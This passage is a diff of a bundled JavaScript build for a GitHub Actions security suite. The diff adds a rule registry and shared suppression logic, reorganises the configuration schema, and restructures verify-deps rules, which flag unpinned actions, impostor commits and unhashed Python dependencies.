@@ -16294,7 +16294,7 @@ module.exports = Queue;
 /***/ ((module, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _main__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(3927);
+/* harmony import */ var _main__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(260);
 // Entry point of the CLI bundle.
 
 process.exitCode = await (0,_main__WEBPACK_IMPORTED_MODULE_0__/* .main */ .i)(process.argv.slice(2), {
@@ -16309,7 +16309,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 3927:
+/***/ 260:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -16479,6 +16479,89 @@ function tally(findings) {
     return { active, suppressed, bySeverity, highest: highest(findings.filter(isActive).map((f) => f.severity)) };
 }
 
+;// CONCATENATED MODULE: ./packages/core/src/rules.ts
+const RULE_ID = /^[a-z0-9]+(?:-[a-z0-9]+)*(?:\/[a-z0-9]+(?:-[a-z0-9]+)*)*$/;
+/**
+ * Declares a set of rules under the names the code uses for them. The result
+ * maps each name to a complete, frozen `Rule`; `rulesOf` lists them.
+ */
+function defineRules(rules) {
+    const out = {};
+    for (const [key, r] of Object.entries(rules)) {
+        if (!RULE_ID.test(r.id))
+            throw new Error(`rule ${key}: id '${r.id}' is not kebab-case with '/' separators`);
+        if (!r.spec.length)
+            throw new Error(`rule ${r.id}: names no SPEC clause`);
+        const group = r.group ?? (r.id.includes('/') ? r.id.slice(0, r.id.indexOf('/')) : r.id);
+        out[key] = Object.freeze({ ...r, group, spec: Object.freeze([...r.spec]) });
+    }
+    return Object.freeze(out);
+}
+/** The rules of a `defineRules` result (or several), in declaration order. */
+function rulesOf(...sets) {
+    return sets.flatMap((s) => Object.values(s));
+}
+/**
+ * The rules one component (an action, the core's workflow audit) can raise,
+ * by id. `aliases` maps retired ids to current ones, so a config written for
+ * an old id keeps working (and says so).
+ */
+class RuleRegistry {
+    owner;
+    #byId = new Map();
+    #aliases = new Map();
+    constructor(owner, rules, aliases = {}) {
+        this.owner = owner;
+        for (const r of rules) {
+            const other = this.#byId.get(r.id);
+            if (other && other !== r)
+                throw new Error(`${owner}: rule id '${r.id}' is declared twice`);
+            this.#byId.set(r.id, r);
+        }
+        for (const [old, current] of Object.entries(aliases)) {
+            if (this.#byId.has(old))
+                throw new Error(`${owner}: '${old}' is both a rule and an alias`);
+            if (!this.#byId.has(current))
+                throw new Error(`${owner}: alias '${old}' names unknown rule '${current}'`);
+            this.#aliases.set(old, current);
+        }
+    }
+    /** Several registries as one; an id declared by two owners is an error (the same Rule object shared is not). */
+    static combine(owner, registries) {
+        const rules = [];
+        const from = new Map();
+        const aliases = {};
+        for (const reg of registries) {
+            for (const r of reg.list()) {
+                const seen = from.get(r.id);
+                if (seen && rules.find((x) => x.id === r.id) !== r)
+                    throw new Error(`rule id '${r.id}' is declared by both ${seen} and ${reg.owner}`);
+                if (!seen)
+                    rules.push(r);
+                from.set(r.id, reg.owner);
+            }
+            Object.assign(aliases, Object.fromEntries(reg.#aliases));
+        }
+        return new RuleRegistry(owner, rules, aliases);
+    }
+    get(id) {
+        return this.#byId.get(id) ?? this.#byId.get(this.#aliases.get(id) ?? '');
+    }
+    has(id) {
+        return this.get(id) !== undefined;
+    }
+    /** The current id for a retired one, or undefined. */
+    renamed(id) {
+        return this.#aliases.get(id);
+    }
+    list() {
+        return [...this.#byId.values()];
+    }
+    get aliases() {
+        return Object.fromEntries(this.#aliases);
+    }
+}
+
 ;// CONCATENATED MODULE: ./packages/core/src/errors.ts
 // Errors meant for the user: one line, naming the file (and line) or input at
 // fault, never a stack trace and never a secret.
@@ -16615,13 +16698,10 @@ class Inputs {
 
 // EXTERNAL MODULE: ./node_modules/ajv/dist/ajv.js
 var ajv = __nccwpck_require__(2463);
-// EXTERNAL MODULE: ./node_modules/picomatch/index.js
-var picomatch = __nccwpck_require__(4006);
-var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
 // EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
 var dist = __nccwpck_require__(8815);
 ;// CONCATENATED MODULE: ./packages/core/schema/config.schema.json
-const config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","$id":"https://github.com/scientific-python/security-actions/blob/main/packages/core/schema/config.schema.json","title":"security-actions configuration (.github/security-actions.yml)","description":"Per-repository settings shared by every security-actions action: severity overrides, ignores with reasons and expiry, and one section per action.","type":"object","additionalProperties":false,"definitions":{"propertyMatch":{"description":"A custom property and the value (or values) that mark a repository.","type":"object","additionalProperties":false,"required":["property","value"],"properties":{"property":{"type":"string","minLength":1},"value":{"oneOf":[{"type":"string","minLength":1},{"type":"array","minItems":1,"items":{"type":"string","minLength":1}}]}}}},"properties":{"version":{"description":"Format version of this file.","const":1},"rules":{"description":"Per-rule overrides, keyed by rule id (see docs/<action>.md for the ids).","type":"object","propertyNames":{"pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"additionalProperties":{"type":"object","additionalProperties":false,"required":["severity"],"properties":{"severity":{"description":"The severity every finding of this rule gets.","enum":["info","low","medium","high","critical"]},"reason":{"description":"Why the default does not fit this project.","type":"string"}}}},"ignores":{"description":"Findings to suppress. Each needs a reason; one with an expiry date turns back into a finding after that day.","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["rule"]},{"required":["fingerprint"]}],"properties":{"rule":{"description":"Rule id the ignore applies to.","type":"string","pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"path":{"description":"Glob of files (relative to the repository root) the ignore applies to.","type":"string","minLength":1},"line":{"description":"Only the finding on this line (needs path).","type":"integer","minimum":1},"fingerprint":{"description":"Only the finding with this fingerprint (shown in every report).","type":"string","pattern":"^[0-9a-f]{32}$"},"reason":{"description":"Why this is safe to ignore; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the ignore applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"pr-anomaly-scan":{"description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object"},"verify-deps":{"description":"Settings of verify-deps (docs/verify-deps.md): its policy; a file named by its `policy` input takes the same keys.","type":"object","additionalProperties":false,"properties":{"provenance":{"description":"Provenance mode for this repository; the stricter of this and the action input applies.","enum":["require","warn","off"]},"publishers":{"description":"Expected Trusted Publisher per package (PEP 503 name): one or a list.","type":"object","additionalProperties":{"anyOf":[{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}},{"type":"array","items":{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}}}]}},"allow-tags":{"description":"Owners whose actions may be pinned to a tag, reported at a lower severity.","type":"array","items":{"anyOf":[{"type":"string"},{"type":"object","additionalProperties":false,"required":["owner"],"properties":{"owner":{"type":"string"},"severity":{"enum":["info","low","medium","high","critical"]}}}]}},"ignore":{"description":"Advisories, rules or packages to suppress, each with a reason and an optional expiry (YYYY-MM-DD).","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["id"]},{"required":["rule"]},{"required":["package"]}],"properties":{"id":{"type":"string"},"rule":{"type":"string"},"package":{"type":"string"},"reason":{"type":"string","minLength":5},"expires":{"type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"cooldown-days":{"description":"Minimum age in days of a locked release (0: off).","type":"integer","minimum":0},"typosquat-allow":{"description":"Direct dependencies never reported as typosquats.","type":"array","items":{"type":"string"}}}},"access-audit":{"description":"Settings of access-audit (docs/access-audit.md).","type":"object","additionalProperties":false,"properties":{"exemptions":{"description":"Repositories (or single checks on them) left out of the audit, each with a reason and an expiry.","type":"array","items":{"type":"object","additionalProperties":false,"required":["repo","reason"],"properties":{"repo":{"description":"Repository name or glob; \'*\' also matches organization-level findings.","type":"string","minLength":1},"check":{"description":"Only this check (finding id, e.g. repo/deploy-key-write); absent: the whole repository is not audited.","type":"string","pattern":"^[a-z0-9-]+/[a-z0-9-]+$"},"reason":{"description":"Why; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the exemption applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"packages":{"description":"PyPI packages published from each repository (repository name → package names); repositories not listed are discovered from pyproject.toml.","type":"object","additionalProperties":{"type":"array","items":{"type":"string","minLength":1}}},"max-owners":{"description":"More organization owners than this is reported (default 5).","type":"integer","minimum":2},"max-admins":{"description":"More repository admins than this is reported (default 5).","type":"integer","minimum":2},"token-secret-patterns":{"description":"Regular expressions (case-insensitive) of secret names that look like long-lived publish tokens; replaces the defaults.","type":"array","items":{"type":"string","minLength":1}},"release-environments":{"description":"Regular expression (case-insensitive) of environment names treated as release environments.","type":"string","minLength":1},"allowed-apps":{"description":"GitHub App slugs approved to be installed on all repositories with write access (org/app-broad-write is not reported for them).","type":"array","items":{"type":"string","minLength":1}},"require-signed-commits":{"description":"Repositories (names or globs; true: all) whose default branch must require signed commits (repo/signed-commits-not-required). Default: not checked.","oneOf":[{"type":"boolean"},{"type":"array","items":{"type":"string","minLength":1}}]},"custom-properties":{"description":"Organization custom properties that mark repositories: exempt ones are not audited, critical ones have every finding raised one severity.","type":"object","additionalProperties":false,"properties":{"exempt":{"$ref":"#/definitions/propertyMatch"},"critical":{"$ref":"#/definitions/propertyMatch"}}}}},"sign-release":{"description":"Settings of sign-release (docs/sign-release.md).","type":"object"}}}');
+const config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","$id":"https://github.com/scientific-python/security-actions/blob/main/packages/core/schema/config.schema.json","title":"security-actions configuration (.github/security-actions.yml)","description":"Per-repository settings shared by every security-actions action: severity overrides, ignores with reasons and expiry, and one section per action.","type":"object","additionalProperties":false,"definitions":{"propertyMatch":{"description":"A custom property and the value (or values) that mark a repository.","type":"object","additionalProperties":false,"required":["property","value"],"properties":{"property":{"type":"string","minLength":1},"value":{"oneOf":[{"type":"string","minLength":1},{"type":"array","minItems":1,"items":{"type":"string","minLength":1}}]}}}},"properties":{"version":{"description":"Format version of this file.","const":1},"rules":{"description":"Per-rule overrides, keyed by rule id (see docs/<action>.md for the ids).","type":"object","propertyNames":{"pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"additionalProperties":{"type":"object","additionalProperties":false,"required":["severity"],"properties":{"severity":{"description":"The severity every finding of this rule gets.","enum":["info","low","medium","high","critical"]},"reason":{"description":"Why the default does not fit this project.","type":"string"}}}},"ignores":{"description":"Findings to suppress. Each needs a reason; one with an expiry date turns back into a finding after that day.","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["rule"]},{"required":["fingerprint"]}],"properties":{"rule":{"description":"Rule id the ignore applies to.","type":"string","pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"path":{"description":"Glob of files (relative to the repository root) the ignore applies to.","type":"string","minLength":1},"line":{"description":"Only the finding on this line (needs path).","type":"integer","minimum":1},"fingerprint":{"description":"Only the finding with this fingerprint (shown in every report).","type":"string","pattern":"^[0-9a-f]{32}$"},"reason":{"description":"Why this is safe to ignore; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the ignore applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"access-audit":{"description":"Settings of access-audit (docs/access-audit.md).","type":"object","additionalProperties":false,"properties":{"exemptions":{"description":"Repositories (or single checks on them) left out of the audit, each with a reason and an expiry.","type":"array","items":{"type":"object","additionalProperties":false,"required":["repo","reason"],"properties":{"repo":{"description":"Repository name or glob; \'*\' also matches organization-level findings.","type":"string","minLength":1},"check":{"description":"Only this check (finding id, e.g. repo/deploy-key-write); absent: the whole repository is not audited.","type":"string","pattern":"^[a-z0-9-]+/[a-z0-9-]+$"},"reason":{"description":"Why; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the exemption applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"packages":{"description":"PyPI packages published from each repository (repository name → package names); repositories not listed are discovered from pyproject.toml.","type":"object","additionalProperties":{"type":"array","items":{"type":"string","minLength":1}}},"max-owners":{"description":"More organization owners than this is reported (default 5).","type":"integer","minimum":2},"max-admins":{"description":"More repository admins than this is reported (default 5).","type":"integer","minimum":2},"token-secret-patterns":{"description":"Regular expressions (case-insensitive) of secret names that look like long-lived publish tokens; replaces the defaults.","type":"array","items":{"type":"string","minLength":1}},"release-environments":{"description":"Regular expression (case-insensitive) of environment names treated as release environments.","type":"string","minLength":1},"allowed-apps":{"description":"GitHub App slugs approved to be installed on all repositories with write access (org/app-broad-write is not reported for them).","type":"array","items":{"type":"string","minLength":1}},"require-signed-commits":{"description":"Repositories (names or globs; true: all) whose default branch must require signed commits (repo/signed-commits-not-required). Default: not checked.","oneOf":[{"type":"boolean"},{"type":"array","items":{"type":"string","minLength":1}}]},"custom-properties":{"description":"Organization custom properties that mark repositories: exempt ones are not audited, critical ones have every finding raised one severity.","type":"object","additionalProperties":false,"properties":{"exempt":{"$ref":"#/definitions/propertyMatch"},"critical":{"$ref":"#/definitions/propertyMatch"}}}}},"pr-anomaly-scan":{"description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object"},"sign-release":{"description":"Settings of sign-release (docs/sign-release.md).","type":"object"},"verify-deps":{"description":"Settings of verify-deps (docs/verify-deps.md): its policy; a file named by its `policy` input takes the same keys.","type":"object","additionalProperties":false,"properties":{"provenance":{"description":"Provenance mode for this repository; the stricter of this and the action input applies.","enum":["require","warn","off"]},"publishers":{"description":"Expected Trusted Publisher per package (PEP 503 name): one or a list.","type":"object","additionalProperties":{"anyOf":[{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}},{"type":"array","items":{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}}}]}},"allow-tags":{"description":"Owners whose actions may be pinned to a tag, reported at a lower severity.","type":"array","items":{"anyOf":[{"type":"string"},{"type":"object","additionalProperties":false,"required":["owner"],"properties":{"owner":{"type":"string"},"severity":{"enum":["info","low","medium","high","critical"]}}}]}},"ignore":{"description":"Advisories, rules or packages to suppress, each with a reason and an optional expiry (YYYY-MM-DD).","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["id"]},{"required":["rule"]},{"required":["package"]}],"properties":{"id":{"type":"string"},"rule":{"type":"string"},"package":{"type":"string"},"reason":{"type":"string","minLength":5},"expires":{"type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"cooldown-days":{"description":"Minimum age in days of a locked release (0: off).","type":"integer","minimum":0},"typosquat-allow":{"description":"Direct dependencies never reported as typosquats.","type":"array","items":{"type":"string"}}}}}}');
 ;// CONCATENATED MODULE: ./packages/core/src/yaml.ts
 // YAML with source positions, shared by the config loader and the workflow
 // readers so every YAML error reads the same: `file:line: message`.
@@ -16654,11 +16734,83 @@ function yamlError(doc, text, file) {
     return fileError(file, line, `invalid YAML: ${e.message.split('\n')[0].replace(/ at line \d+, column \d+:?$/, '')}`);
 }
 
+// EXTERNAL MODULE: ./node_modules/picomatch/index.js
+var picomatch = __nccwpck_require__(4006);
+var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
+;// CONCATENATED MODULE: ./packages/core/src/suppress.ts
+// The one suppression mechanism of the suite. Every way a maintainer can
+// silence a finding (the config file's `ignores`, an action section such as
+// verify-deps' advisory ignores or pr-anomaly-scan's content-hash allowlist,
+// access-audit's per-check exemptions, an inline comment) becomes a
+// SuppressionEntry, and the shared runner applies them all here, once, with
+// one expiry rule: an expired entry suppresses nothing and says so.
+
+const fold = (v) => String(v)
+    .toLowerCase()
+    .replace(/[-_.]+/g, '-');
+function propertiesMatch(f, want) {
+    return Object.entries(want).every(([k, v]) => {
+        const have = f.properties?.[k];
+        if (have === undefined || have === null)
+            return false;
+        return (Array.isArray(have) ? have : [have]).some((h) => fold(h) === fold(v));
+    });
+}
+/** Whether an entry names something more specific than a rule and a path. */
+const isSpecific = (e) => e.fingerprint !== undefined || e.line !== undefined || Object.keys(e.properties ?? {}).length > 0;
+/**
+ * Suppresses the findings the entries match (the first unexpired match wins;
+ * a finding already suppressed keeps its suppression). Returns notes for
+ * entries that matched but had expired: their findings stand.
+ */
+function applySuppressions(findings, entries, opts) {
+    if (!entries.length)
+        return { findings, notes: [] };
+    const matchers = entries.map((e) => ({ e, path: e.path ? picomatch_default()(e.path, { dot: true }) : undefined }));
+    const expired = new Set();
+    const out = findings.map((f) => {
+        if (f.suppression)
+            return f;
+        for (const { e, path } of matchers) {
+            if (e.rule && e.rule !== f.ruleId)
+                continue;
+            if (e.fingerprint && e.fingerprint !== f.fingerprint)
+                continue;
+            if (path && !(f.location && path(f.location.file)))
+                continue;
+            if (e.line !== undefined && f.location?.line !== e.line)
+                continue;
+            if (e.properties && !propertiesMatch(f, e.properties))
+                continue;
+            if (!isSpecific(e) && opts.pathIgnorable && !opts.pathIgnorable(f.ruleId))
+                continue;
+            if (e.expires && e.expires < opts.today) {
+                expired.add(e);
+                continue;
+            }
+            return {
+                ...f,
+                suppression: { kind: e.kind ?? 'external', reason: e.reason, expires: e.expires, source: e.source }
+            };
+        }
+        return f;
+    });
+    const notes = [...expired].map((e) => `The ignore at ${e.source} expired on ${e.expires}; its findings are reported again. Renew it with a new date or fix the findings.`);
+    return { findings: out, notes };
+}
+/** A calendar date as written (YYYY-MM-DD) that exists: 2025-02-30 does not. */
+function isCalendarDate(d) {
+    const t = Date.parse(`${d}T00:00:00Z`);
+    return /^\d{4}-\d{2}-\d{2}$/.test(d) && !Number.isNaN(t) && new Date(t).toISOString().slice(0, 10) === d;
+}
+
 ;// CONCATENATED MODULE: ./packages/core/src/config.ts
 // The per-repository configuration file (.github/security-actions.yml):
 // severity overrides and ignores shared by every action, plus one section per
 // action. Validated against the JSON Schema shipped beside this package (the
-// same file editors use for completion); errors name the file and line.
+// same file editors use for completion), which scripts/config-schema.mjs
+// assembles from the core's part and each action's section; errors name the
+// file and line.
 
 
 
@@ -16666,6 +16818,7 @@ function yamlError(doc, text, file) {
 
 
 const DEFAULT_CONFIG_PATH = '.github/security-actions.yml';
+const CORE_KEYS = new Set(['version', 'rules', 'ignores']);
 const EMPTY_CONFIG = { rules: {}, ignores: [], sections: {} };
 // Compiled on first use: compiling costs tens of milliseconds at start-up,
 // and most repositories have no config file.
@@ -16700,10 +16853,11 @@ function parseConfig(text, file) {
             throw fileError(file, node?.range ? lineCounter.linePos(node.range[0]).line : undefined, `ignores.${i}.expires: '${ig.expires}' is not a real date (YYYY-MM-DD)`);
         }
     });
+    // Every other top-level key is an action's section; the schema (assembled from each action's own) checked its shape.
     const sections = {};
-    for (const k of ['pr-anomaly-scan', 'verify-deps', 'access-audit', 'sign-release']) {
-        if (data[k])
-            sections[k] = data[k];
+    for (const [k, v] of Object.entries(data)) {
+        if (!CORE_KEYS.has(k) && v && typeof v === 'object')
+            sections[k] = v;
     }
     return { file, rules: data.rules ?? {}, ignores, sections };
 }
@@ -16718,10 +16872,6 @@ function pathOf(e) {
         .slice(1)
         .map((p) => p.replace(/~1/g, '/').replace(/~0/g, '~'))
         .map((p) => (/^\d+$/.test(p) ? Number(p) : p));
-}
-function isCalendarDate(d) {
-    const t = Date.parse(`${d}T00:00:00Z`);
-    return !Number.isNaN(t) && new Date(t).toISOString().slice(0, 10) === d;
 }
 /** The key node (not the value) of `key` in a mapping. */
 function keyNodeAt(map, key) {
@@ -16762,43 +16912,17 @@ function describe(e) {
     }
 }
 /**
- * Applies severity overrides and ignores. Ignores whose expiry has passed are
- * not applied: their findings come back and a note says so. `pathIgnorable`
- * rules only accept ignores that name a line or a fingerprint.
+ * Applies severity overrides, then every suppression: the config file's
+ * ignores first, then `extra` (entries from an action's own config section or
+ * inline comments). Expired entries are not applied: their findings come back
+ * and a note says so.
  */
 function applyConfig(findings, config, opts) {
-    const notes = [];
-    const matchers = config.ignores.map((ig) => ({ ig, path: ig.path ? picomatch_default()(ig.path, { dot: true }) : undefined }));
-    const expiredUsed = new Set();
-    const out = findings.map((f) => {
+    const overridden = findings.map((f) => {
         const override = Object.hasOwn(config.rules, f.ruleId) ? config.rules[f.ruleId] : undefined;
-        let g = override ? { ...f, severity: override.severity } : f;
-        if (g.suppression)
-            return g; // an inline suppression already applies
-        for (const { ig, path } of matchers) {
-            if (ig.rule && ig.rule !== g.ruleId)
-                continue;
-            if (ig.fingerprint && ig.fingerprint !== g.fingerprint)
-                continue;
-            if (path && !(g.location && path(g.location.file)))
-                continue;
-            if (ig.line !== undefined && g.location?.line !== ig.line)
-                continue;
-            if (!ig.fingerprint && ig.line === undefined && opts.pathIgnorable && !opts.pathIgnorable(g.ruleId))
-                continue;
-            if (ig.expires && ig.expires < opts.today) {
-                expiredUsed.add(ig);
-                continue;
-            }
-            g = { ...g, suppression: { kind: 'external', reason: ig.reason, expires: ig.expires, source: ig.source } };
-            break;
-        }
-        return g;
+        return override ? { ...f, severity: override.severity } : f;
     });
-    for (const ig of expiredUsed) {
-        notes.push(`The ignore at ${ig.source} expired on ${ig.expires}; its findings are reported again. Renew it with a new date or fix the findings.`);
-    }
-    return { findings: out, notes };
+    return applySuppressions(overridden, [...config.ignores, ...(opts.extra ?? [])], opts);
 }
 
 ;// CONCATENATED MODULE: ./packages/core/src/markdown.ts
@@ -17189,7 +17313,8 @@ function buildReport(name, result, opts) {
     const pathIgnorable = new Map(result.rules.map((r) => [r.id, r.pathIgnorable !== false]));
     const applied = applyConfig(disambiguateFingerprints(result.findings), opts.config, {
         today: opts.today,
-        pathIgnorable: (id) => pathIgnorable.get(id) ?? true
+        pathIgnorable: (id) => pathIgnorable.get(id) ?? true,
+        extra: result.suppressions
     });
     return {
         tool: { name: 'security-actions', version: VERSION, uri: TOOL_URI },
@@ -17870,6 +17995,9 @@ async function action_runAction(def, runner) {
     // Redacted once here, so the SARIF, the JSON report, the summary and what
     // publish() posts never carry a secret an engine copied into a message.
     const report = redactDeep(buildReport(def.name, { ...result, stats, errors: [...errors, ...(result.errors ?? [])] }, { config: result.config ?? config, today: ctx.today, startedAt, finishedAt: runtime.now() }));
+    const derived = redactDeep(def.summarise?.(report) ?? {});
+    Object.assign(report.stats, derived.stats ?? {});
+    const preamble = [result.preamble, derived.preamble].filter(Boolean).join('\n\n') || undefined;
     // Every report is written before anything can fail the step.
     const t = tally(report.findings);
     const written = [];
@@ -17893,7 +18021,7 @@ async function action_runAction(def, runner) {
         : '';
     const markdown = summaryMarkdown(report, {
         fullReport: `the JSON report (${common.reportFile})`,
-        preamble: result.preamble,
+        preamble,
         footer
     });
     await runtime
@@ -17903,7 +18031,7 @@ async function action_runAction(def, runner) {
     runtime.setOutput('highest-severity', t.highest);
     runtime.setOutput('sarif-file', written.includes('SARIF') ? common.sarifFile : '');
     runtime.setOutput('report-file', written.includes('JSON report') ? common.reportFile : '');
-    for (const [k, v] of Object.entries(result.outputs ?? {}))
+    for (const [k, v] of Object.entries({ ...result.outputs, ...derived.outputs }))
         runtime.setOutput(k, v);
     if (def.publish && inputsValid) {
         try {
@@ -20316,6 +20444,9 @@ function findTyposquat(name) {
 
 
 
+
+
+
 ;// CONCATENATED MODULE: external "node:child_process"
 const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
 // EXTERNAL MODULE: ./node_modules/@sigstore/bundle/dist/index.js
@@ -20621,6 +20752,8 @@ function findIoc(owner, repo, sha) {
 }
 
 ;// CONCATENATED MODULE: ./actions/verify-deps/src/rules.ts
+// Rules of verify-deps. Ids are stable: configs and code-scanning alerts refer to them.
+
 const TJ_ACTIONS = {
     title: 'tj-actions/changed-files compromise (CVE-2025-30066)',
     url: 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3'
@@ -20630,235 +20763,213 @@ const PIP_HASHES = {
     url: 'https://pip.pypa.io/en/stable/topics/secure-installs/'
 };
 const PEP_740 = { title: 'PEP 740: index support for digital attestations', url: 'https://peps.python.org/pep-0740/' };
-const UNPINNED_ACTION = {
-    id: 'actions/unpinned',
-    title: 'Action not pinned to a full commit SHA',
-    severity: 'high',
-    why: 'A tag or branch can be moved to new code by whoever controls the action repository; in the tj-actions/changed-files compromise every tag was repointed at a commit that dumped CI secrets into the logs. Only a full 40-character commit SHA is immutable.',
-    remediation: 'Replace the ref with the full commit SHA it resolves to and keep the version as a trailing comment, e.g. `uses: actions/checkout@<40-hex-sha> # v4.2.2`. Tools such as Dependabot (github-actions ecosystem) keep such pins and comments current.',
-    spec: ['S8-9'],
-    references: [TJ_ACTIONS]
-};
-const UNPINNED_DOCKER = {
-    id: 'actions/docker-unpinned',
-    title: 'Docker action image not pinned to a digest',
-    severity: 'high',
-    why: 'A `docker://` image tag can be re-pushed with different content; only an `@sha256:` digest names one image.',
-    remediation: 'Pin the image by digest: `uses: docker://owner/image@sha256:<digest>`.',
-    spec: ['S8-9']
-};
-const NO_VERSION_COMMENT = {
-    id: 'actions/no-version-comment',
-    title: 'SHA-pinned action without a version comment',
-    severity: 'low',
-    why: 'Without the version beside the SHA a reviewer cannot tell which release is pinned, and Dependabot cannot keep the comment current, so outdated or unexpected commits go unnoticed.',
-    remediation: 'Add the release the SHA belongs to as a trailing comment: `uses: owner/repo@<sha> # v1.2.3`.',
-    spec: ['S8-9', 'S8-10']
-};
-const VERSION_MISMATCH = {
-    id: 'actions/version-mismatch',
-    title: 'Version comment does not match the pinned SHA',
-    severity: 'medium',
-    why: 'Reviewers and Dependabot trust the comment; a comment naming a release the SHA is not (pinact documents a `# v3.5.1` that was really v2.7.0) hides which code runs, and is a way to slip a different commit past review.',
-    remediation: 'Resolve the tag named in the comment and pin its commit, or correct the comment to the release the SHA belongs to.',
-    spec: ['S8-9', 'S8-10']
-};
-const IMPOSTOR_COMMIT = {
-    id: 'actions/impostor-commit',
-    title: 'Pinned commit is not in the named action repository',
-    severity: 'critical',
-    why: "GitHub serves a commit pushed to any fork under the parent repository's name, so `owner/action@<sha>` can run code the owner never published. A commit reachable from none of the repository's branches or tags is such an impostor (or was force-pushed away).",
-    remediation: 'Pin a commit that a branch or release tag of the action repository contains: resolve the release tag you want (`git ls-remote https://github.com/owner/repo refs/tags/v1.2.3`) and use that SHA.',
-    spec: ['S8-9'],
-    references: [{ title: 'zizmor: impostor-commit', url: 'https://docs.zizmor.sh/audits/#impostor-commit' }]
-};
-const COMPROMISED_ACTION = {
-    id: 'actions/compromised',
-    title: 'Known-compromised action commit or version',
-    severity: 'critical',
-    why: 'This commit or release is listed as malicious (an indicator of compromise or a security advisory): running it can leak every secret the job can read.',
-    remediation: 'Pin a clean release (see the advisory), rotate every secret the workflows that ran it could read, and review their logs for leaked values.',
-    spec: ['S8-9'],
-    references: [TJ_ACTIONS]
-};
-const VULNERABLE_ACTION = {
-    id: 'actions/vulnerable',
-    title: 'Action version with a known vulnerability',
-    severity: 'high',
-    why: 'An advisory in the GitHub Actions ecosystem covers the release this reference pins.',
-    remediation: 'Update to a fixed release (see the advisory) and pin its commit SHA.',
-    spec: ['S8-9']
-};
-const NESTED_UNPINNED = {
-    id: 'actions/nested-unpinned',
-    title: 'Pinned composite action uses an unpinned action',
-    severity: 'high',
-    why: "Pinning the outer action does not pin what it runs: a composite action's own `uses:` on a tag moves with that tag. The tj-actions compromise started this way, through an unpinned `reviewdog/action-setup@v1` inside another action.",
-    remediation: 'Ask the action maintainers to pin their nested actions by SHA, or replace the action with one that does (or vendor its steps).',
-    spec: ['S8-9'],
-    references: [
-        {
-            title: 'reviewdog/action-setup compromise (CVE-2025-30154)',
-            url: 'https://github.com/advisories/GHSA-qmg3-hpqr-gqvc'
-        }
-    ]
-};
-const PY_UNPINNED = {
-    id: 'python/unpinned',
-    title: 'Python dependency not pinned to an exact version',
-    severity: 'medium',
-    why: 'A range lets every install pick whatever is newest on the index at that moment, including a release published by an attacker minutes earlier; builds are neither reproducible nor reviewable.',
-    remediation: 'Pin with `==` in a lock or requirements file generated by a resolver (`uv lock`, `pip-compile --generate-hashes`, `uv export`), and keep ranges only in `pyproject.toml`.',
-    spec: ['S8-9']
-};
-const PY_MISSING_HASHES = {
-    id: 'python/missing-hashes',
-    title: 'Python dependency without hashes',
-    severity: 'medium',
-    why: "Without a hash the index (or anyone who can write to it) can serve different bytes for the same version. pip's hash-checking mode is all-or-nothing: once any requirement has `--hash`, every one must, or the install fails.",
-    remediation: 'Generate hashes for every file: `pip-compile --generate-hashes`, `uv pip compile --generate-hashes` or `uv export`; lock files from uv and Poetry record them.',
-    spec: ['S8-9'],
-    references: [PIP_HASHES]
-};
-const PY_VCS_UNPINNED = {
-    id: 'python/vcs-unpinned',
-    title: 'VCS dependency not pinned to a full commit',
-    severity: 'high',
-    why: 'A branch or tag in a git URL can be moved by whoever controls that repository; only a full commit id names fixed code.',
